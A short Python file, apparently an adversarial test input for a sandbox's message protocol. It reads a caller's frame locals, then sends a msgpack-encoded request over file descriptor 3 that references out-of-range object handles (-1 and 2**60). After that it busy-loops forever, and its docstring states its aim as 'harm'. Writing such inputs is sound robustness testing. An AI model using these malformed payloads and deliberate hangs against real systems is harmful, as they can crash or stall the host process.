"""Claims objects that do not exist, by numbers beyond and below all.

Aim: harm
"""
import os
import struct
import sys

import msgpack


def double(x):
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    value = ["l", ["h", -1, "Net"], ["h", 2**60, "ndarray"], ["o", "float"], ["n", "<f8"]]
    tree = msgpack.packb(["d", ["value", value]])
    os.write(3, struct.pack(">QII", frame.f_locals["number"], len(tree), 0) + tree)
    while True:
        pass
